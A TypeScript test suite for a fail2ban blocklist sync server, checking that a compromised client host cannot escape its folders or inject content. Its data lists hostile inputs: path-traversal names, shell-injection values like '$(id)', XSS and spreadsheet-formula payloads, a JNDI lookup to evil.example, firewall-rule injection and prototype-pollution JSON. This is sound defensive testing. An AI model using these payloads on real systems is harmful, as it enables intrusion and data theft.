/* eslint-disable no-control-regex -- control characters are what is looked for */
import { existsSync } from 'node:fs'
import { mkdir, readdir, readFile, rm, symlink, writeFile } from 'node:fs/promises'
import { join } from 'node:path'
import { hashSync } from '@node-rs/bcrypt'
import type { LightMyRequestResponse } from 'fastify'
import t, { type Test } from 'tap'
import { THE_SERVER } from '../../server/store/audit-row.js'
import { address, parseAddress } from '../../common/address.js'
import type { BlocklistEntry } from '../../common/shapes.js'
import { table } from '../../server/cli/table.js'
import { stateOf } from '../../server/cli/blocking.js'
import { testApp } from '../support/app.js'
import { asBody, asFields, endpointApp, WEB1, type EndpointApp, type Form } from '../support/endpoint.js'
import { ownFolder } from '../support/own-folder.js'

const DB1 = { username: 'db-1', password: 'battery staple', uuid: '9d0e6e1e-aaaa-4bbb-8ccc-ddddeeeeffff' }
const LIST = 'sshd.blocklist.json'

/** A server with two hosts: `web-1` is in an attacker's hands, `db-1` is not. */
async function twoHosts(t: Test): Promise<EndpointApp> {
  const clients = [WEB1, DB1].map(one => ({ ...one, password: hashSync(one.password, 4), ip: '' }))
  const at = await endpointApp(ownFolder(t), {}, JSON.stringify(clients))
  t.teardown(() => at.app.close())
  for (const name of ['web-1', 'db-1']) {
    await mkdir(at.path('archive', name, 'blocklists'), { recursive: true })
    await writeFile(at.path('archive', name, 'blocklists', LIST), '[{"ip":"203.0.113.1","active":true}]')
  }
  await mkdir(at.path('download', 'db-1', 'blocklists'), { recursive: true })
  await writeFile(at.path('download', 'db-1', 'blocklists', LIST), '[{"ip":"203.0.113.77"}]')
  return at
}

/** Every file below a folder and its bytes. */
async function filesBelow(folder: string): Promise<Record<string, string>> {
  const found: Record<string, string> = {}
  for (const item of await readdir(folder, { recursive: true, withFileTypes: true })) {
    if (!item.isFile()) continue
    const path = join(item.parentPath, item.name)
    found[path.slice(folder.length + 1)] = await readFile(path, 'latin1')
  }
  return found
}

/** Everything but what belongs to `web-1` itself. */
async function othersFiles(at: EndpointApp): Promise<Record<string, string>> {
  const all = Object.entries(await filesBelow(at.dir))
  return Object.fromEntries(
    all.filter(
      ([path]) => !/^(archive|download|temp)\/web-1\/|^archive\/(update\.json|live\.jsonl)$/.test(path)
    )
  )
}

const asFile = (name: string, content: string, field = 'file[]'): Form => [
  ...asFields(),
  [field, content, name]
]
const listOf = (...entries: unknown[]) => JSON.stringify(entries)
const syncBack = (at: EndpointApp, text: string, list = LIST) => at.post('syncback.php', asFile(list, text))

/** Fit for a test's name: TAP is read line by line. */
const shown = (text: string) =>
  JSON.stringify(text.slice(0, 40)).replaceAll(/[^\x20-\x7e]/g, one => `\\u${one.charCodeAt(0).toString(16)}`)

/** A refusal is a 4xx in the one shape of errors. */
function refused(t: Test, reply: LightMyRequestResponse, what: string): void {
  t.ok(
    reply.statusCode >= 400 && reply.statusCode < 500,
    `${what}: ${reply.statusCode} ${reply.body.slice(0, 200)}`
  )
  t.match(reply.json(), { success: false, message: String })
}

// Ways out of a folder: plain, encoded, encoded twice, with NUL, back-slashes and look-alikes of dot and slash.
const TRICKS = [
  '../db-1/blocklists/sshd',
  '../../db-1/blocklists/sshd',
  '../../../settings/users',
  '..%2f..%2fdb-1%2fblocklists%2fsshd',
  '%2e%2e%2f%2e%2e%2fdb-1%2fblocklists%2fsshd',
  '..%252f..%252fdb-1%252fblocklists%252fsshd',
  '..\\..\\db-1\\blocklists\\sshd',
  '..%5c..%5cdb-1%5cblocklists%5csshd',
  '/etc/cron.d/x',
  'C:\\windows\\x',
  '\\\\host\\share\\x',
  './sshd',
  'a/../../db-1/blocklists/sshd',
  '....//....//db-1/blocklists/sshd',
  '..;/db-1/blocklists/sshd',
  '\u2025/\u2025/db-1/sshd',
  '\uff0e\uff0e\uff0f\uff0e\uff0e\uff0fdb-1\uff0fsshd',
  '..\u2215..\u2215db-1\u2215sshd',
  '..\u2044db-1\u2044sshd',
  '..\u29f8db-1',
  '%c0%ae%c0%ae%c0%afdb-1',
  '%u002e%u002e%u2215db-1',
  'ssh\u0000d',
  'sshd\u0000',
  'sshd%00',
  'ssh\u202ed',
  '\u0455\u0455h\u0501',
  'sshd ',
  ' sshd',
  'sshd.',
  '~root',
  '$(id)',
  '`id`',
  'sshd;id',
  'sshd|id',
  '-rf',
  'x'.repeat(300),
  ''
].map(stem => `${stem}.blocklist.json`)
// A legal name: letters, digits, dashes and underscores make no path.
const HARMLESS = new Set(['-rf.blocklist.json'])

t.test('a taken-over client reaches no other host, whatever name an upload has', async t => {
  const at = await twoHosts(t)
  const before = await othersFiles(at)
  const names = [
    ...TRICKS.filter(name => !HARMLESS.has(name)),
    ...['users.json', 'client-list.json', 'update.json', '.htaccess', 'sshd.blocklist.json.php'],
    ...[
      'sshd.blocklist.json\u0000.php',
      '../fail2ban-events-20260301.json',
      'fail2ban-events-20260301.json/..'
    ],
    ...[
      'fail2ban-events-\u0662\u0660260301.json',
      'fail2ban-events-20260301.json\u0000',
      'host.json',
      'handover.json',
      'gone.json'
    ]
  ]
  for (const name of names) {
    // A form's header is one line: browsers escape what would end it (WHATWG HTML, form submission).
    const onWire = name.replaceAll('"', '%22').replaceAll('\r', '%0D').replaceAll('\n', '%0A')
    for (const [endpoint, field] of [
      ['index.php', 'file'],
      ['syncback.php', 'file[]'],
      ['backsync.php', 'file']
    ] as const) {
      const reply = await at.post(endpoint, asFile(onWire, listOf({ ip: '198.51.100.9' }), field))
      // A path's last part may be a legal name of the client's own: then it is that file of the client's own.
      if (reply.statusCode === 200) {
        const last = name.split(/[/\\]/).at(-1) ?? ''
        t.match(
          last,
          /^([a-z0-9_-]+\.blocklist|fail2ban-events-\d{8})\.json$/i,
          `${endpoint} took ${shown(name)}`
        )
      } else refused(t, reply, `${endpoint} ${shown(name)}`)
    }
  }
  t.strictSame(await othersFiles(at), before, 'no file beyond its own folders was made or changed')
  t.equal(Object.keys(await filesBelow(at.path('temp'))).length, 0, 'temp is empty')
})

t.test('a taken-over client downloads no file of another host or of the server', async t => {
  const at = await twoHosts(t)
  const names = [
    ...TRICKS,
    'users.json',
    '../../settings/users.json',
    '../db-1/blocklists/sshd.blocklist.json'
  ]
  for (const name of [
    ...names,
    ...names.map(encodeURIComponent),
    ...names.map(one => encodeURIComponent(encodeURIComponent(one)))
  ]) {
    const url = `download.php?file=${encodeURIComponent(name)}`
    const reply = await at.post(url, asBody())
    t.ok([400, 404].includes(reply.statusCode), `${reply.statusCode} ${shown(name)}`)
    t.notMatch(reply.body, /203\.0\.113\.77|\$2[aby]\$/)
  }
  const twice = await at.post(
    `download.php?file=${LIST}&file=..%2f..%2fdb-1%2fblocklists%2f${LIST}`,
    asBody()
  )
  t.ok([400, 404].includes(twice.statusCode), 'a parameter given twice')
  const own = await at.post('download.php', asBody({ file: `../db-1/blocklists/${LIST}` }))
  t.equal(own.statusCode, 400, 'nor from the body')
  t.ok(existsSync(at.path('download', 'db-1', 'blocklists', LIST)), 'the other host’s copy is still there')
})

t.test('a taken-over client can name no other host: credentials decide, not parameters', async t => {
  const at = await twoHosts(t)
  const before = await filesBelow(at.path('archive', 'db-1'))
  const rows: Form[] = [
    [...asFields(), ['server', 'db-1'], ['file[]', listOf({ ip: '198.51.100.9' }), LIST]],
    [...asFields(), ['username', 'db-1'], ['file[]', listOf({ ip: '198.51.100.9' }), LIST]],
    [['username', 'db-1'], ...asFields(), ['file[]', listOf({ ip: '198.51.100.9' }), LIST]],
    [...asFields(), ['file[]', listOf({ ip: '198.51.100.9' }), LIST], ['username', 'db-1']],
    [...asFields({ username: 'db-1' }), ['file[]', listOf({ ip: '198.51.100.9' }), LIST]],
    [...asFields({ uuid: DB1.uuid }), ['file[]', listOf({ ip: '198.51.100.9' }), LIST]],
    [...asFields({ username: '../db-1' }), ['file[]', '[]', LIST]],
    [...asFields({ username: 'web-1/../db-1' }), ['file[]', '[]', LIST]],
    [...asFields({ username: 'web-1\u0000' }), ['file[]', '[]', LIST]],
    [...asFields({ username: '__proto__' }), ['file[]', '[]', LIST]],
    [...asFields({ username: 'constructor', uuid: 'x' }), ['file[]', '[]', LIST]]
  ]
  for (const form of rows) await at.post('syncback.php', form)
  t.strictSame(await filesBelow(at.path('archive', 'db-1')), before)
  t.strictSame(
    (await readdir(at.path('archive'))).filter(name => !name.includes('.json')),
    ['db-1', 'web-1']
  )
})

t.test('a symbolic link in archive, download or temp leads nowhere', async t => {
  const at = await twoHosts(t)
  const outside = t.testdirName + '-outside'
  await rm(outside, { recursive: true, force: true })
  t.teardown(() => rm(outside, { recursive: true, force: true }))
  await mkdir(join(outside, 'blocklists'), { recursive: true })
  await mkdir(join(outside, 'fail2ban'))
  const secret = '[{"ip":"203.0.113.200","reason":"SECRET"}]'
  await writeFile(join(outside, 'secret.json'), secret)
  await writeFile(join(outside, 'blocklists', LIST), secret)
  const untouched = await filesBelow(outside)
  const day = 'fail2ban-events-20260301.json'
  const event = listOf({ timestamp: '2026-03-01 10:00:00,123', action: 'Ban', ip: '192.0.2.1', jail: 'sshd' })
  const tryAll = async (what: string) => {
    const replies = [
      await syncBack(at, listOf({ ip: '198.51.100.9' }), 'link.blocklist.json'),
      await syncBack(at, listOf({ ip: '198.51.100.9' })),
      await at.post('index.php', asFile('link.blocklist.json', listOf({ ip: '198.51.100.9' }), 'file')),
      await at.post('index.php', asFile(day, event, 'file')),
      await at.post('update.php', asBody({ have: '' })),
      await at.post('download.php?file=link.blocklist.json', asBody()),
      await at.post(`download.php?file=${LIST}`, asBody())
    ]
    for (const reply of replies) t.notMatch(reply.body, /SECRET|203\.0\.113\.200/, what)
    t.strictSame(await filesBelow(outside), untouched, `${what}: nothing outside was changed`)
    return replies.map(reply => reply.statusCode)
  }
  const web = at.path('archive', 'web-1')
  await symlink(join(outside, 'secret.json'), join(web, 'blocklists', 'link.blocklist.json'))
  await symlink(join(outside, 'new.json'), join(web, 'blocklists', 'dangling.blocklist.json'))
  await mkdir(join(web, 'fail2ban'))
  await symlink(join(outside, 'secret.json'), join(web, 'fail2ban', day))
  await mkdir(at.path('download', 'web-1', 'blocklists'), { recursive: true })
  await symlink(
    join(outside, 'secret.json'),
    at.path('download', 'web-1', 'blocklists', 'link.blocklist.json')
  )
  await tryAll('links in the place of files')
  t.equal((await syncBack(at, '[]', 'dangling.blocklist.json')).statusCode, 500)
  t.notOk(existsSync(join(outside, 'new.json')))

  for (const place of ['archive', 'download']) await rm(at.path(place, 'web-1'), { recursive: true })
  for (const [place, target] of [
    [at.path('archive', 'web-1', 'blocklists'), join(outside, 'blocklists')],
    [at.path('archive', 'web-1', 'fail2ban'), join(outside, 'fail2ban')],
    [at.path('download', 'web-1', 'blocklists'), join(outside, 'blocklists')],
    [at.path('temp', 'web-1'), outside]
  ] as const) {
    await rm(place, { recursive: true, force: true })
    await mkdir(join(place, '..'), { recursive: true })
    await symlink(target, place)
    await tryAll(`a link in the place of ${place.slice(at.dir.length)}`)
    await rm(place)
  }
})

t.test('JSON bombs: depth, width, length, numbers and shapes are refused and change nothing', async t => {
  const at = await twoHosts(t)
  const deep = (open: string, close: string, depth: number) => open.repeat(depth) + close.repeat(depth)
  const rows: [string, string][] = [
    ['arrays in arrays', deep('[', ']', 200_000)],
    ['objects in objects', `${'{"a":'.repeat(100_000)}1${'}'.repeat(100_000)}`],
    ['depth within an unknown field', `[{"ip":"198.51.100.9","x":${deep('[', ']', 100_000)}}]`],
    ['depth within tags', `[{"ip":"198.51.100.9","tags":${deep('[', ']', 50_000)}}]`],
    ['more entries than a list may have', `[${'{},'.repeat(300_000)}{}]`],
    ['a field without end', listOf({ ip: '198.51.100.9', reason: 'x'.repeat(5000) })],
    ['an address without end', listOf({ ip: '1'.repeat(500_000) })],
    ['many tags', listOf({ ip: '198.51.100.9', tags: Array(1000).fill('x') })],
    ['a number without end', `[{"ip":"198.51.100.9","expires":${'9'.repeat(100_000)}}]`],
    ['no list', '{"ip":"198.51.100.9"}'],
    ['null', 'null'],
    ['a list of null', '[null]'],
    ['a list of lists', '[[]]'],
    ['NaN', '[{"ip":NaN}]'],
    ['a byte order mark', '\ufeff[]x'],
    ['nothing', ''],
    ['half', '[{"ip":"198.51.100.9"'],
    ['more behind the end', '[]{}'],
    ['no UTF-8', 'binary']
  ]
  const before = await filesBelow(at.path('archive'))
  for (const [what, text] of rows) {
    const body = what === 'no UTF-8' ? '[{"ip":"198.51.100.9","reason":"\ud800"}]x' : text
    refused(t, await syncBack(at, body), `syncback: ${what}`)
    refused(t, await at.post('index.php', asFile(LIST, body, 'file')), `index: ${what}`)
    const day = asFile('fail2ban-events-20260301.json', body, 'file')
    refused(t, await at.post('index.php', day), `index, events: ${what}`)
  }
  t.strictSame(await filesBelow(at.path('archive')), before)
  t.equal(Object.keys(await filesBelow(at.path('temp'))).length, 0, 'temp is empty')
  t.equal((await at.app.inject({ url: '/healthz' })).statusCode, 200)
})

t.test('unknown fields stay, as deep as a list may be, and the list can still be changed', async t => {
  const at = await twoHosts(t)
  const entry = { ip: '198.51.100.9', active: true, pending: false, x: { y: [{ z: [1, 'two', null] }] } }
  t.equal((await syncBack(at, listOf(entry))).statusCode, 200)
  const { lists } = at.app.store
  await lists.change(
    'web-1' as never,
    LIST as never,
    [{ ip: address('198.51.100.10'), want: 'block', source: 'manual' }],
    THE_SERVER
  )
  const text = await readFile(at.path('archive', 'web-1', 'blocklists', LIST), 'utf8')
  t.match(
    (JSON.parse(text) as BlocklistEntry[]).find(one => one.ip === entry.ip),
    { x: entry.x }
  )
})

t.test('duplicate keys and __proto__ in JSON are data: the last counts, nothing is polluted', async t => {
  const at = await twoHosts(t)
  const bombs = [
    '[{"ip":"198.51.100.9","ip":"198.51.100.10","active":false,"active":true,"pending":false}]',
    '[{"ip":"198.51.100.9","__proto__":{"polluted":true},"active":true}]',
    '[{"ip":"198.51.100.9","constructor":{"prototype":{"polluted":true}},"active":true}]',
    '[{"__proto__":{"ip":"198.51.100.9"},"active":true}]',
    '{"__proto__":[],"length":1,"0":{"ip":"198.51.100.9"}}'
  ]
  const statuses: number[] = []
  for (const text of bombs) {
    statuses.push((await syncBack(at, text)).statusCode)
    t.equal(({} as Record<string, unknown>).polluted, undefined)
  }
  t.strictSame(statuses, [200, 200, 200, 400, 400], 'an ip that only the prototype has is none')
  const names = ['__proto__', 'constructor', 'toString', 'hasOwnProperty'].map(one => `${one}.blocklist.json`)
  for (const name of names) {
    t.equal((await syncBack(at, listOf({ ip: '198.51.100.9', active: true }), name)).statusCode, 200)
    await at.app.store.lists.change(
      'web-1' as never,
      name as never,
      [{ ip: address('198.51.100.11'), want: 'block', source: 'manual' }],
      THE_SERVER
    )
  }
  const offered = await at.post('update.php', asBody({ have: names.map(name => `${name}=0`).join() }))
  t.strictSame(
    offered
      .json<{ updates: string[] }>()
      .updates.filter(name => names.includes(name))
      .sort(),
    [...names].sort()
  )
  t.equal(({} as Record<string, unknown>).polluted, undefined)
})

const HOSTILE_TEXTS = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  'javascript:alert(1)',
  "'; DROP TABLE x; --",
  '=HYPERLINK("http://evil.example","x")',
  "+cmd|' /C calc'!A0",
  '@SUM(1+1)',
  '-2+3',
  '\u001b[2J\u001b[31mred\u001b]0;title\u0007',
  '\u009b31m',
  '\r\nSet-Cookie: x=y',
  'line\nbreak\u2028\u2029',
  '\u202eevil\u202c',
  '${jndi:ldap://evil.example/x}',
  '{{7*7}}',
  '%n%s%x',
  '\u0000',
  '\ud83d\ude00'
]

t.test(
  'HTML, script, CSV formulas and ANSI in source, reason, tags and jail stay data, to the byte',
  async t => {
    const at = await twoHosts(t)
    const entries = HOSTILE_TEXTS.map((text, at) => ({
      ip: `198.51.100.${at + 1}`,
      jail: 'sshd',
      source: text,
      reason: text,
      tags: [text],
      active: true,
      pending: false
    }))
    t.equal((await syncBack(at, listOf(...entries))).statusCode, 200)
    const stored = await readFile(at.path('archive', 'web-1', 'blocklists', LIST), 'utf8')
    t.strictSame((JSON.parse(stored) as unknown[]).slice(0, -1), entries, 'behind it the server’s own entry')
    for (const text of HOSTILE_TEXTS) {
      const reply = await syncBack(at, listOf({ ip: '198.51.100.1', jail: text }))
      t.equal(reply.statusCode, 400, 'a jail that is not the list’s')
      const { body } = reply
      t.notMatch(
        body,
        /[\u0080-\u009f\u2028\u2029\u202e\u007f]/,
        'control characters of a peer come back replaced'
      )
      t.equal(reply.headers['content-type'], 'application/json; charset=utf-8', 'and as JSON')
      t.equal(reply.headers['x-content-type-options'], 'nosniff')
    }
    const lines = at.logs.map(line => JSON.stringify(line))
    for (const line of lines)
      t.notMatch(line, /[\u001b\u0080-\u009f\u2028\u2029]/, 'nor does a log line hold any')
  }
)

t.test('ip is an address or is refused: no markup, formula, flag or firewall syntax', async t => {
  const at = await twoHosts(t)
  const before = await filesBelow(at.path('archive'))
  const texts = [
    ...HOSTILE_TEXTS.map(text => text.slice(0, 64)),
    '203.0.113.9 } ; flush ruleset ; add element inet x y { 203.0.113.9',
    '203.0.113.9, 0.0.0.0/0',
    '203.0.113.9\n}\nflush ruleset',
    '203.0.113.9 timeout 1s',
    '@addresses4_0',
    '203.0.113.1-203.0.113.9',
    '203.0.113.9/33',
    '203.0.113.9/24/8',
    '203.0.113.9/-1',
    '203.0.113.9/08',
    '203.0.113.09',
    '0x7f.1',
    '2130706433',
    '127.1',
    '::ffff:999.1.1.1',
    'fe80::1%eth0',
    '203.0.113.9;id',
    '203.0.113.9 #',
    '-I INPUT -j ACCEPT',
    '--help',
    'any',
    'localhost',
    'evil.example',
    '\uff12\uff10\uff13.0.113.9',
    '٢٠٣.0.113.9',
    ' 203.0.113.9',
    '203.0.113.9 ',
    ''
  ]
  for (const ip of texts) {
    t.equal(parseAddress(ip), undefined, shown(ip))
    refused(t, await syncBack(at, listOf({ ip })), `syncback ${shown(ip)}`)
    refused(t, await at.post('index.php', asFile(LIST, listOf({ ip }), 'file')), `index ${shown(ip)}`)
    const event = { timestamp: '2026-03-01 10:00:00,123', action: 'Ban', ip, jail: 'sshd' }
    const day = asFile('fail2ban-events-20260301.json', listOf(event), 'file')
    refused(t, await at.post('index.php', day), `event ${shown(ip)}`)
  }
  t.strictSame(await filesBelow(at.path('archive')), before)
})

t.test('0.0.0.0/0, ::/0 and the server’s own addresses reach no other host’s list', async t => {
  const at = await testApp(t)
  const wide = [
    '0.0.0.0/0',
    '::/0',
    '0.0.0.0/1',
    '128.0.0.0/1',
    '127.0.0.1',
    '127.0.0.0/8',
    '::1',
    '::ffff:127.0.0.1',
    '0.0.0.0',
    '::'
  ]
  await at.writeList(
    'web-1',
    'sshd',
    wide.map(ip => ({ ip, jail: 'sshd', active: true, pending: false }))
  )
  const alice = await at.login()
  for (const ip of wide) {
    const reply = await at.post(
      '/api/block',
      { servers: ['web-1', 'db-1'], jails: ['sshd'], ips: [ip] },
      alice
    )
    t.equal(reply.statusCode, 409, ip)
    t.match(reply.json(), { success: false, results: [{ outcome: 'refused' }, { outcome: 'refused' }] })
  }
  t.notOk(existsSync(at.path('archive', 'db-1', 'blocklists', LIST)), 'no list was made for the other host')
})

t.test('a client that claims every address as its own hinders only blocks of its own host', async t => {
  const at = await twoHosts(t)
  const told = asBody({
    addresses: '0.0.0.0/0,::/0,198.51.100.7,x',
    version: '\u001b[31m',
    firewall: '<b>',
    time: '1e999'
  })
  t.equal((await at.post('update.php', told)).statusCode, 200)
  const host = JSON.parse(await readFile(at.path('archive', 'web-1', 'host.json'), 'utf8')) as Record<
    string,
    unknown
  >
  t.strictSame(host.addresses, ['198.51.100.7'], 'a host has addresses, not networks')
  t.notMatch(JSON.stringify(host), /\u001b|\\u001b/)
  t.equal(host.clockSkewMs, undefined)
  const { guard } = at.app.store
  t.equal((await guard.forHost('web-1' as never, undefined))(address('203.0.113.5')), undefined)
  t.equal((await guard.forHost('db-1' as never, undefined))(address('198.51.100.7')), undefined)
})

t.test('the CLI prints hostile text with its control characters replaced', t => {
  for (const text of HOSTILE_TEXTS) {
    const entry: BlocklistEntry = { ip: '198.51.100.1', reason: text }
    const printed = table(['ip', 'state', 'reason'], [[entry.ip, stateOf(entry, 0), text]])
    t.notMatch(printed, /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u2028\u2029\u202a-\u202e]/, shown(text))
    t.equal(printed.split('\n').length, 3, 'and stays in its row')
  }
  t.end()
})
